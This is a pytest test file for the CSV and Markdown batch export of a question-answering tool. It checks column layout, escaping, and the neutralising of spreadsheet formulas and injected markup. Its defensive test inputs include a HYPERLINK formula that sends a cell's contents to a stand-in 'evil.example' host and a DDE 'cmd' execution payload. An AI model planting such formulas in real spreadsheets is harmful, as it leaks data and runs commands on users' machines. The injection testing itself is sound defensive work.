"""Held: a batch as CSV and as Markdown says what its records say; nothing of it is a formula, and none is markup."""

from __future__ import annotations

import csv
import io
import json
import re
from dataclasses import replace
from typing import Any

import pytest
from fake_chat import STONE, TROOPS, answer, passages, seed, stone, troops
from hostile_text import dangerous
from hypothesis import given, settings
from hypothesis import strategies as st
from transcripts import HOSTILE, OURS, SYNTAX, as_read, conversation, document, hostile, passage, quote, rendered, tags
from transcripts import answer as said

from rag.answering.sentence_selection import Quote
from rag.output.csv_sheet import as_csv
from rag.output.json_record import detailed, failure, record
from rag.output.markdown_sheet import as_markdown
from rag.output.transcript import markdown
from rag.text.sanitize import one_line, plain
from rag.text.unmarked import unmarked

NOTHING = "Wer übersetzte die Straßenschilder?"
ROW = record("1", stone())  # not to be changed
BROKEN = "What does the broken model say?"
COLUMNS = (
    "id question status answer document title date page start end quote support "
    "citations further model mode seconds error"
).split()


def batch() -> list[dict[str, Any]]:
    """Records of every kind: sources that disagree, nothing found, one quote, an error."""
    return [
        detailed("troops", troops()),
        detailed("nothing", answer(NOTHING)),
        detailed("stone", stone()),
        failure("broken", BROKEN, "The model cannot be used.", "scripted", "scripted", "quote"),
    ]


def table(*records: dict[str, Any]) -> list[dict[str, str]]:
    """Return the rows as a script reads them."""
    return list(csv.DictReader(io.StringIO(as_csv(records), newline=""), strict=True))


def cell(value: Any) -> str:
    """Return what becomes of an id."""
    (row,) = table({**ROW, "id": value})
    return row["id"]


# --- CSV ---------------------------------------------------------------------------------


def test_every_question_has_a_row_with_its_first_citation() -> None:
    first, nothing, _, broken = rows = table(*batch())
    assert [row["question"] for row in rows] == [TROOPS, NOTHING, STONE, BROKEN]
    troops_record = batch()[0]
    citation = troops_record["citations"][0]
    assert first == {
        "id": "troops",
        "question": TROOPS,
        "status": "answered",
        "answer": troops_record["answer"],
        "document": "kursk-lage.txt",
        "title": citation["title"],
        "date": "2024-11",
        "page": "1",
        "start": "210",
        "end": "334",
        "quote": citation["quote"],
        "support": "0.9",
        "citations": "3",
        "further": "kursk-background.md:1750-1862 | kursk-lage.txt:539-637",
        "model": "scripted",
        "mode": "quote",
        "seconds": "1.5",
        "error": "",
    }
    assert nothing["answer"] == "I found no sentence that answers this." and nothing["citations"] == "0"
    assert (broken["status"], broken["error"]) == ("error", "The model cannot be used.")
    of_citation = ("document", "title", "date", "page", "start", "end", "quote", "support", "further")
    assert {row[name] for row in (nothing, broken) for name in of_citation} == {""}


def test_the_header_is_the_columns_and_its_first_name_is_no_other_to_a_script() -> None:
    header, rest = as_csv([]).split("\n")
    assert header.split(",") == COLUMNS and rest == ""
    assert as_csv(batch()).encode("utf-8").startswith(b"id,question,")


def test_lines_end_as_they_do_on_unix_and_a_line_break_in_a_cell_is_kept() -> None:
    made = as_csv([{**record("1", stone()), "answer": 'He said "a,b;c"\nand went.'}])
    assert "\r" not in made and made.endswith("\n")
    assert '"He said ""a,b;c""\nand went."' in made


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        '=HYPERLINK("http://evil.example?"&A1)',
        "+1",
        "-2+3",
        "@SUM(A1)",
        " =1",
        "\u00a0=1",
        "\n=1",
        "\ufeff=1",
        "\u2028=1",
        "\r=1",
        "\r1",
        "\t1",
        " \t1",
        "＝1",
        "- a list",
    ],
)
def test_what_a_spreadsheet_would_run_begins_with_an_apostrophe(text: str) -> None:
    assert cell(text) == f"'{plain(text)}"


@pytest.mark.parametrize("text", ["a=1", "1-2", "a@b.example", "'=1", "", " a", "a\tb", "1", "„-“", "–1"])
def test_other_text_stays_as_it_is(text: str) -> None:
    assert cell(text) == text


def test_no_text_of_a_record_is_run_whichever_column_it_is_in() -> None:
    evil = "=cmd|' /C calc'!A0"
    row = json.loads(json.dumps(detailed("1", troops())))
    for key in ("id", "question", "status", "answer", "model", "mode", "error"):
        row[key] = evil
    for citation in row["citations"]:
        citation |= dict.fromkeys(("document", "title", "date", "page", "start", "end", "quote", "support"), evil)
    row["timings"]["total_s"] = evil
    (made,) = table(row)
    assert {name for name, text in made.items() if text.startswith("'=cmd")} == {*COLUMNS} - {"citations"}


def test_numbers_stay_numbers() -> None:
    row = record("1", stone())
    row["citations"][0] |= {"page": -1, "support": -0.25}
    (made,) = table(row)
    assert (made["page"], made["support"]) == ("-1", "-0.25")
    row["citations"][0]["support"] = float("nan")
    assert table(row)[0]["support"] == ""


@pytest.mark.parametrize("text", HOSTILE)
def test_what_a_terminal_would_obey_is_in_no_table(text: str) -> None:
    records = [detailed(text, turn.answer) for turn in hostile(text).turns]
    assert dangerous(as_csv(records)) <= {"\n", "\t"}
    assert {row["question"] for row in table(*records)} in ({plain(text)}, {f"'{plain(text)}"})


@given(text=st.text(st.sampled_from("=+-@\t\r\n \"',;|aé\x00\x0b\x1f\x85\u2028\ufeff") | st.characters(), max_size=8))
@settings(max_examples=500, deadline=None)
def test_any_text_is_one_cell_that_begins_like_no_formula(text: str) -> None:
    row = {**ROW, "id": text, "error": text}
    (made,) = table(row)
    assert list(made) == COLUMNS and made["question"] == STONE
    assert not re.match(r"\s*[=+\-@\t\r]", made["id"])
    assert made["id"] == made["error"]
    assert made["id"].removeprefix("'") == plain(text).encode("utf-8", "backslashreplace").decode().removeprefix("'")


def test_halves_of_characters_are_written_out_so_that_any_table_is_utf_8() -> None:
    assert cell("a \ud83d b") == "a \\ud83d b"


def test_records_of_an_earlier_version_have_rows_too() -> None:
    row = record("1", stone())
    del row["timings"], row["error"], row["mode"], row["citations"][0]["support"]
    (made,) = table(row)
    assert (made["seconds"], made["error"], made["mode"], made["support"]) == ("", "", "", "")
    assert made["question"] == STONE


# --- Markdown ----------------------------------------------------------------------------


def test_a_batch_in_markdown_as_a_whole() -> None:
    found = quote("Es waren\n11.000.", (9, 15), gloss="it were 11.000", date="2024-10")
    other = quote("About 9,000 were spent.", (6, 11), name="a_b.pdf", title="Bridge [2]")
    first = replace(said(found, other), figures=((1, "11.000"), (2, "9,000")))
    nothing = replace(
        said(text="I found no sentence that answers this.", question="And why?", standalone="Why so much?"),
        passages=tuple(map(passage, ["Es waren 11.000.", "b", "c", "d"])),
    )
    broken = failure("3", BROKEN, "The model cannot be used.", "scripted", "scripted", "quote")
    assert as_markdown([detailed("1", first), detailed("2", nothing), broken], "My *questions*") == (
        r"""# My \*questions\*

3 questions · 1 answered · 1 not found · 1 error

## How much?

Answered

Es waren 11.000. [1]

About 9,000 were spent. [2]

The sources give different figures: 11.000 [1] · 9,000 [2]

Sources

**[1]** The mill · 2024-10 · p. 1 · mill.txt:0-16

> Es waren **11.000**.

word by word: it were 11.000

**[2]** Bridge [2] · no date · p. 2 · a_b.pdf:0-23

> About **9,000** were spent.

## And why?

Not found

Understood as: Why so much?

I found no sentence that answers this.

Nearest passages (not evidence):

- mill.txt:0-16 Es waren 11.000.
- mill.txt:0-1 b
- mill.txt:0-1 c

## What does the broken model say?

Error: The model cannot be used.

[//]: # (written by Beleg)
"""
    )


@pytest.mark.parametrize("preset", ["commonmark", "gfm-like"])
@pytest.mark.parametrize("text", HOSTILE)
def test_in_markdown_nothing_that_is_said_is_markup(text: str, preset: str) -> None:
    first, nothing = (detailed(text, turn.answer) for turn in hostile(text).turns)
    broken = failure(text, text, text, text, text, text)
    tree = rendered(as_markdown([first, nothing, broken], text), preset)
    line = one_line(text)
    assert tags(tree) <= OURS
    assert [each.text_content() for each in tree.iter("h1", "h2")] == [line] * 4
    assert tree.find(".//blockquote/p").text_content() == as_read(text)
    paragraphs = {each.text_content() for each in tree.iter("p")}
    assert {plain(f"{text} [1]"), f"The sources give different figures: {line} [1]"} <= paragraphs
    assert {one_line(f"Error: {text}"), one_line(f"Understood as: {text} too")} <= paragraphs
    assert one_line(f"[1] {text} · {text} · p. 1 · {text}:0-{len(text)}") in paragraphs
    assert f"word by word: {line}" in paragraphs
    (near,) = tree.iter("li")
    said = one_line(" · ".join(unmarked(text, 0, len(text))), 100)
    assert near.text_content().split() == [f"mill.txt:0-{len(text)}", *said.split()]


@given(text=SYNTAX | st.text(), start=st.integers(0, 9), marks=st.lists(st.tuples(*[st.integers(-5, 60)] * 2)))
@settings(max_examples=300, deadline=None)
def test_in_markdown_any_quote_with_any_marks_is_the_same_text(
    text: str, start: int, marks: list[tuple[int, int]]
) -> None:
    row = detailed("1", said(quote(text), text="x"))
    row["citations"][0] |= {"start": start, "end": start + len(text)}
    row["detail"]["citations"][0]["marks"] = marks
    tree = rendered(as_markdown([row], "Answers"))
    assert tags(tree) <= OURS
    quoted = tree.find(".//blockquote/p")
    assert (quoted.text_content() if quoted is not None else "") == as_read(text)


@pytest.mark.parametrize("made", [troops(), stone(), answer(NOTHING)])
def test_an_answer_in_a_batch_reads_as_it_does_in_a_conversation(made: Any) -> None:
    ours = as_markdown([detailed("1", made)], "Answers").rstrip("\n").split("\n\n")[2:]  # without title and counts
    # Of a single question the title is the question; without who made it when.
    title, *theirs, _, mark = markdown(conversation(made)).rstrip("\n").split("\n\n")
    theirs.insert(0, f"#{title}")
    assert sorted(block for block in ours if block not in {"Answered", "Not found"}) == sorted([*theirs, mark])


@pytest.mark.parametrize(
    "marks", [None, 7, "ab", [7], [[1]], [[1, 2, 3]], [["1", "2"]], [[None, 2]], [[True, 4]], {"a": 1}]
)
def test_marks_that_are_none_mark_nothing(marks: Any) -> None:
    row = detailed("1", stone())
    row["detail"]["citations"][0]["marks"] = marks
    made = as_markdown([row], "Answers")
    assert "July 1799" in made and "**July" not in made
    assert re.findall(r"\*\*(.+?)\*\*", made) == ["[1]"]


def test_a_row_of_a_table_has_its_column_heads_and_its_answering_words_where_they_are_told() -> None:
    table = "| Ferry | Built |\n|---|---|\n| Luise | 1928 |\n"
    at = table.index("| Luise")
    row = detailed("1", said(Quote(document(table), at, len(table) - 1, table[at:-1], 0.9, ((at + 10, at + 14),))))
    assert "\n> Ferry: Luise · Built: **1928**\n" in as_markdown([row], "Answers")
    row["citations"][0]["reading"] = "Ferry: Luise 1928 · Built: 1928"  # which of them?
    assert "\n> Ferry: Luise 1928 · Built: 1928\n" in as_markdown([row], "Answers")
    row["citations"][0]["reading"] = 7
    assert "Luise" in as_markdown([row], "Answers")


def test_marks_past_the_end_of_a_quote_are_cut() -> None:
    row = detailed("1", said(quote("It burned in 1907.", (13, 17))))
    row["detail"]["citations"][0]["marks"] = [[13, 900]]
    row["citations"][0]["end"] = 900
    assert "> It burned in **1907.**\n" in as_markdown([row], "Answers")


def test_records_without_detail_are_read_as_well() -> None:
    nothing = answer(NOTHING, found=passages(seed("kursk-background.md"), 4))
    made = as_markdown([record("1", troops()), record("2", nothing)], "Answers")
    assert made.count("\n> ") == 3 and "different figures" not in made and "Understood as" not in made
    places = [f"{each.chunk.start}-{each.chunk.end}" for each in nothing.passages]
    assert len(places) == 4
    assert re.findall(r"^- .*", made, re.MULTILINE) == [rf"- kursk-background\.md:{place}" for place in places[:3]]


def test_a_batch_of_nothing_and_of_several_errors_is_counted() -> None:
    assert "\n0 questions · 0 answered · 0 not found · 0 errors\n" in as_markdown([], "Answers")
    assert "\n1 question · 1 answered · 0 not found · 0 errors\n" in as_markdown([record("1", stone())], "Answers")


def test_halves_of_characters_do_not_hinder_writing_markdown() -> None:
    made = as_markdown([detailed("1", said(quote("a \ud83d b")))], "Answers")
    assert made.encode("utf-8") and "> a \\ud83d b" in made
